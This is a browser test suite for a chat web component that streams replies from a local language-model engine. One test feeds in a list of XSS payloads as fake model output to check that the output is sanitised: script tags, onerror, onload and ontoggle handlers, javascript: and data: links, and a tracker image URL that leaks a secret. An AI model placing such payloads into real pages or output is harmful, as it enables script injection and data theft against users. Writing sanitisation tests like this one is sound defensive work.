import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { userEvent } from 'vitest/browser';
import './define';
import type { LlmosChat } from './llmos-chat';
import type { ChatBackend } from './chat-backend';
import { EngineClient } from '../../kernel/engine-client';
import { ERROR_TEXT, GenerationError, type LlmOsError } from '../../errors';
import { makeUsage, type GenerateRequest, type GenerateResult, type TokenEvent } from '../../protocol/engine';
import { greedy, TINY_URL } from '../../../test/helpers/engines';
import type { LlmosDoneEvent, LlmosErrorEvent, LlmosTokenEvent } from '../shared/generation-events';

/** Greedy decoding with byte tokens banned (the fixture is a random model); the chat supplies messages and maxTokens. */
const { prompt: _prompt, maxTokens: _max, ...GREEDY } = greedy();

/**
 * Test double, clearly not a model: replays scripted text in fixed chunks, honours the abort signal,
 * and can fail after a number of chunks with a given error.
 */
class ScriptedBackend implements ChatBackend {
  readonly requests: GenerateRequest[] = [];
  constructor(private readonly chunks: string[], private readonly opts: { failAfter?: number; error?: LlmOsError; delayMs?: number } = {}) {}

  async generate(request: GenerateRequest, onToken: (t: TokenEvent) => void, signal: AbortSignal): Promise<GenerateResult> {
    this.requests.push(request);
    const t0 = performance.now();
    let first: number | null = null;
    let index = 0;
    for (const text of this.chunks) {
      if (signal.aborted) break;
      if (this.opts.failAfter === index) throw this.opts.error;
      await new Promise((r) => setTimeout(r, this.opts.delayMs ?? 0));
      first ??= performance.now();
      onToken({ text, index: index++ });
    }
    const text = this.chunks.slice(0, index).join('');
    return { text, stopReason: signal.aborted ? 'abort' : 'stop', usage: makeUsage(t0, first, performance.now(), 5, index) };
  }
}

const chunk = (s: string, n: number) => Array.from({ length: Math.ceil(s.length / n) }, (_, i) => s.slice(i * n, i * n + n));

async function mount(attrs: Record<string, string> = {}): Promise<LlmosChat> {
  const el = document.createElement('llmos-chat');
  for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
  document.body.append(el);
  await el.updateComplete;
  return el;
}

const q = <T extends Element = HTMLElement>(el: LlmosChat, sel: string) => el.shadowRoot!.querySelector<T>(sel)!;
const qa = (el: LlmosChat, sel: string) => [...el.shadowRoot!.querySelectorAll<HTMLElement>(sel)];
const button = (el: LlmosChat, part: 'send' | 'stop') => q<HTMLButtonElement>(el, `[part="${part}"]`);
const lastReply = (el: LlmosChat) => qa(el, '.message.assistant [part="content"]').at(-1)!;

function type(el: LlmosChat, text: string): void {
  q<HTMLTextAreaElement>(el, 'textarea').value = text;
}

function nextEvent<K extends 'llmos-done' | 'llmos-error'>(el: EventTarget, type: K, timeoutMs = 30_000) {
  return new Promise<K extends 'llmos-done' ? LlmosDoneEvent : LlmosErrorEvent>((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`no ${type} within ${timeoutMs} ms`)), timeoutMs);
    el.addEventListener(type, (e) => { clearTimeout(t); resolve(e as never); }, { once: true });
  });
}

const norm = (s: string) => s.replace(/\s+/g, ' ').trim();

afterEach(() => document.body.replaceChildren());

describe('<llmos-chat> with a real engine worker and the tiny fixture', () => {
  let client: EngineClient;
  beforeAll(async () => {
    client = await EngineClient.start();
    await client.load('wllama', { kind: 'gguf-url', id: 'tiny', url: TINY_URL }, { nThreads: 2, nCtx: 512 });
  });
  afterAll(() => client.terminate());

  test('streams the reply token by token into a live region and shows the finished state', async () => {
    const chat = await mount({ 'max-tokens': '16' });
    chat.backend = client;
    chat.params = GREEDY;
    const log = q(chat, '[part="log"]');
    expect(log.getAttribute('aria-live')).toBe('polite');
    expect(log.getAttribute('role')).toBe('log');

    const texts: string[] = [];
    const rendered: number[] = [];
    chat.addEventListener('llmos-token', (e: LlmosTokenEvent) => {
      texts.push(e.detail.text);
      void chat.updateComplete.then(() => rendered.push(lastReply(chat).textContent!.length));
    });
    const done = nextEvent(chat, 'llmos-done');
    type(chat, 'hello there');
    button(chat, 'send').click();
    await chat.updateComplete;
    expect(chat.busy).toBe(true);
    expect(button(chat, 'send').disabled).toBe(true);
    expect(button(chat, 'stop').disabled).toBe(false);

    const { detail } = await done;
    await chat.updateComplete;
    expect(detail.result.stopReason).toBe('length');
    expect(detail.result.usage.completionTokens).toBe(16);
    expect(texts.length).toBe(16);
    // The reply grew on screen while it streamed, not in one final render.
    for (let i = 1; i < texts.length; i++) expect(texts[i]!.startsWith(texts[i - 1]!)).toBe(true);
    for (let i = 1; i < rendered.length; i++) expect(rendered[i]!).toBeGreaterThanOrEqual(rendered[i - 1]!);
    // At least two different lengths on screen (tokens that reach the page in one worker message render together,
    // so under load there may be few renders, but never a single final one).
    expect(new Set(rendered).size).toBeGreaterThan(1);
    expect(norm(lastReply(chat).textContent!)).toBe(norm(detail.result.text));
    expect(q(chat, '[part="meta"]').textContent).toMatch(/^Reached the token limit · 16 tokens · [\d.]+ tok\/s · TTFT \d+ ms$/);
    expect(q(chat, '[part="meta"]').dataset.stopReason).toBe('length');
    expect(chat.busy).toBe(false);
    expect(button(chat, 'stop').disabled).toBe(true);

    // The chat sent exactly the conversation: the same request straight to the engine gives the same text.
    const direct = await client.generate({ ...GREEDY, messages: [{ role: 'user', content: 'hello there' }], maxTokens: 16 }, () => {});
    expect(direct.text).toBe(detail.result.text);
    expect(chat.messages).toEqual([{ role: 'user', content: 'hello there' }, { role: 'assistant', content: detail.result.text }]);
  });

  test('Stop aborts the reply within a token and the chat stays usable', async () => {
    const chat = await mount({ 'max-tokens': '400' });
    chat.backend = client;
    chat.params = GREEDY;
    let seen = 0;
    chat.addEventListener('llmos-token', () => {
      if (++seen === 3) button(chat, 'stop').click();
    });
    const done = nextEvent(chat, 'llmos-done');
    type(chat, 'count to a thousand');
    button(chat, 'send').click();
    const { detail } = await done;
    await chat.updateComplete;
    expect(detail.result.stopReason).toBe('abort');
    expect(seen).toBeLessThanOrEqual(4);
    expect(q(chat, '[part="meta"]').textContent).toMatch(/^Stopped · [34] tokens/);
    expect(button(chat, 'send').disabled).toBe(false);
    expect(button(chat, 'stop').disabled).toBe(true);

    chat.maxTokens = 4;
    const again = nextEvent(chat, 'llmos-done');
    type(chat, 'and again');
    button(chat, 'send').click();
    expect((await again).detail.result.usage.completionTokens).toBe(4);
    expect(qa(chat, '.message.assistant')).toHaveLength(2);
  });

  test('a typed engine error is shown in words (no model loaded in that worker)', async () => {
    const empty = await EngineClient.start();
    try {
      const chat = await mount();
      chat.backend = empty;
      const failed = nextEvent(chat, 'llmos-error');
      await chat.send('hi');
      const { detail } = await failed;
      await chat.updateComplete;
      expect(detail.error.code).toBe('MODEL_NOT_LOADED');
      const err = q(chat, '.message.assistant [part="error"]');
      expect(err.getAttribute('role')).toBe('alert');
      expect(err.dataset.code).toBe('MODEL_NOT_LOADED');
      expect(err.textContent).toContain(ERROR_TEXT.MODEL_NOT_LOADED);
    } finally {
      empty.terminate();
    }
  });

  test('a worker that dies mid-reply is a typed error in words, never a hang', async () => {
    const doomed = await EngineClient.start();
    await doomed.load('wllama', { kind: 'gguf-url', id: 'tiny', url: TINY_URL }, { nThreads: 2, nCtx: 512 });
    const chat = await mount({ 'max-tokens': '400' });
    chat.backend = doomed;
    chat.params = GREEDY;
    let seen = 0;
    chat.addEventListener('llmos-token', () => { if (++seen === 2) doomed.terminate(); });
    const failed = nextEvent(chat, 'llmos-error');
    await chat.send('keep talking');
    expect((await failed).detail.error.code).toBe('WORKER_CRASHED');
    await chat.updateComplete;
    expect(q(chat, '[part="error"]').textContent).toContain(ERROR_TEXT.WORKER_CRASHED);
    expect(lastReply(chat).textContent!.length).toBeGreaterThan(0); // what streamed before the crash stays
    expect(chat.busy).toBe(false);
  });
});

describe('<llmos-chat> renders model output sanitised', () => {
  const HOSTILE = [
    'Hi <img src=x onerror="window.__pwned=1"> there\n\n',
    '<script>window.__pwned=2</script>\n\n',
    '[click](javascript:window.__pwned=3) and [JS2](JaVaScRiPt:window.__pwned=3) and [safe](https://example.com/)\n\n',
    '<svg onload="window.__pwned=4"><circle r="5"></circle></svg>\n\n',
    '<a href="javascript:window.__pwned=5">raw</a> <b onmouseover="window.__pwned=6">bold</b>\n\n',
    '![pixel](https://tracker.example/p.png?leak=secret)\n\n',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n',
    '<iframe src="javascript:window.__pwned=7"></iframe><details open ontoggle="window.__pwned=8">x</details>\n\n',
    '```html\n<script>window.__pwned=9</script>\n```\n',
  ].join('');

  test('no script runs, no handler attributes, no javascript: or data: links, code stays text', async () => {
    const w = window as unknown as { __pwned?: number };
    delete w.__pwned;
    const chat = await mount();
    const inserted: string[] = [];
    // Watch every node ever inserted while streaming: a transient <img onerror> would be enough to run code.
    const watch = new MutationObserver((records) => {
      for (const r of records) for (const n of r.addedNodes) {
        if (n instanceof Element) inserted.push(n.tagName.toLowerCase(), ...[...n.querySelectorAll('*')].map((c) => c.tagName.toLowerCase()));
      }
    });
    watch.observe(chat.shadowRoot!, { childList: true, subtree: true });
    chat.backend = new ScriptedBackend(chunk(HOSTILE, 7));
    const done = nextEvent(chat, 'llmos-done');
    await chat.send('say something nasty');
    await done;
    await chat.updateComplete;
    await new Promise((r) => setTimeout(r, 300)); // let any (wrongly) inserted image fail and fire its handler
    watch.disconnect();

    expect(w.__pwned).toBeUndefined();
    const forbidden = ['script', 'img', 'svg', 'iframe', 'details', 'object', 'embed', 'style', 'form'];
    expect(inserted.filter((t) => forbidden.includes(t))).toEqual([]);
    const content = lastReply(chat);
    for (const el of content.querySelectorAll('*')) {
      for (const a of el.attributes) {
        expect(a.name.startsWith('on'), `${el.tagName} ${a.name}`).toBe(false);
        expect(a.name).not.toBe('style');
      }
    }
    const hrefs = [...content.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toContain('https://example.com/');
    for (const h of hrefs) expect(h === null || /^https?:/.test(h), String(h)).toBe(true);
    // The image is a plain link, never fetched.
    expect(hrefs).toContain('https://tracker.example/p.png?leak=secret');
    for (const a of content.querySelectorAll('a[href]')) expect(a.getAttribute('rel')).toContain('noopener');
    // Raw HTML is shown as the text the model wrote; code blocks are text inside <pre><code>.
    expect(content.textContent).toContain('<img src=x onerror="window.__pwned=1">');
    const code = content.querySelector('pre > code')!;
    expect(code.textContent).toContain('<script>window.__pwned=9</script>');
    expect(code.children).toHaveLength(0);
  });

  test('markdown still renders: emphasis, lists, inline code', async () => {
    const chat = await mount();
    chat.backend = new ScriptedBackend(chunk('**bold** and *it*\n\n- one\n- two\n\nuse `npm test`', 3));
    await chat.send('format');
    await chat.updateComplete;
    const content = lastReply(chat);
    expect(content.querySelector('strong')!.textContent).toBe('bold');
    expect(content.querySelector('em')!.textContent).toBe('it');
    expect(content.querySelectorAll('li')).toHaveLength(2);
    expect(content.querySelector('code')!.textContent).toBe('npm test');
  });
});

describe('<llmos-chat> requests, keys and errors', () => {
  test('sends system prompt, max-tokens, extra params and the history', async () => {
    const chat = await mount({ system: 'Be brief.', 'max-tokens': '32' });
    const backend = new ScriptedBackend(['Sure', '.']);
    chat.backend = backend;
    chat.params = { temperature: 0, logitBias: { 5: -100 }, maxTokens: 999 };
    await chat.send('first');
    await chat.send('second');
    expect(backend.requests).toHaveLength(2);
    expect(backend.requests[0]).toEqual({
      temperature: 0, logitBias: { 5: -100 }, maxTokens: 32,
      messages: [{ role: 'system', content: 'Be brief.' }, { role: 'user', content: 'first' }],
    });
    expect(backend.requests[1]!.messages).toEqual([
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'first' },
      { role: 'assistant', content: 'Sure.' },
      { role: 'user', content: 'second' },
    ]);
  });

  test('Enter sends, Shift+Enter adds a line; Send is disabled while busy', async () => {
    const chat = await mount();
    const backend = new ScriptedBackend(['ok'], { delayMs: 50 });
    chat.backend = backend;
    const box = q<HTMLTextAreaElement>(chat, 'textarea');
    box.focus();
    await userEvent.keyboard('line one{Shift>}{Enter}{/Shift}line two');
    expect(box.value).toBe('line one\nline two');
    expect(backend.requests).toHaveLength(0);
    const done = nextEvent(chat, 'llmos-done');
    await userEvent.keyboard('{Enter}');
    await done;
    expect(backend.requests[0]!.messages!.at(-1)).toEqual({ role: 'user', content: 'line one\nline two' });
    expect(box.value).toBe('');
  });

  test('a failure mid-stream keeps the partial text and shows the error in words', async () => {
    const chat = await mount();
    chat.backend = new ScriptedBackend(['partial ', 'text ', 'never'], { failAfter: 2, error: new GenerationError('invalid UTF-8 byte 0x99', { model: 'tiny' }) });
    const failed = nextEvent(chat, 'llmos-error');
    expect(await chat.send('go')).toBeNull();
    expect((await failed).detail.error).toBeInstanceOf(GenerationError);
    await chat.updateComplete;
    expect(lastReply(chat).textContent).toContain('partial text');
    const err = q(chat, '[part="error"]');
    expect(err.textContent).toContain(ERROR_TEXT.GENERATION_FAILED);
    expect(err.textContent).toContain('invalid UTF-8 byte 0x99');
    expect(err.dataset.code).toBe('GENERATION_FAILED');
  });

  test('Send without a backend says to load a model first', async () => {
    const chat = await mount();
    const failed = nextEvent(chat, 'llmos-error');
    type(chat, 'anyone there?');
    button(chat, 'send').click();
    expect((await failed).detail.error.code).toBe('MODEL_NOT_LOADED');
    await chat.updateComplete;
    expect(q(chat, '[part="error"]').textContent).toContain(ERROR_TEXT.MODEL_NOT_LOADED);
    // The prompt is kept for when a model is ready, and the notice goes once one is.
    expect(q<HTMLTextAreaElement>(chat, 'textarea').value).toBe('anyone there?');
    chat.backend = new ScriptedBackend(['yes']);
    await chat.updateComplete;
    expect(chat.shadowRoot!.querySelector('[part="error"]')).toBeNull();
  });

  test('the log follows a long reply to the bottom', async () => {
    const chat = await mount();
    chat.style.height = '240px';
    chat.backend = new ScriptedBackend(Array.from({ length: 60 }, (_, i) => `line ${i}\n\n`));
    await chat.send('many lines');
    await chat.updateComplete;
    const log = q(chat, '[part="log"]');
    expect(log.scrollHeight).toBeGreaterThan(log.clientHeight * 3);
    expect(log.scrollHeight - log.scrollTop - log.clientHeight).toBeLessThan(2);
  });
});
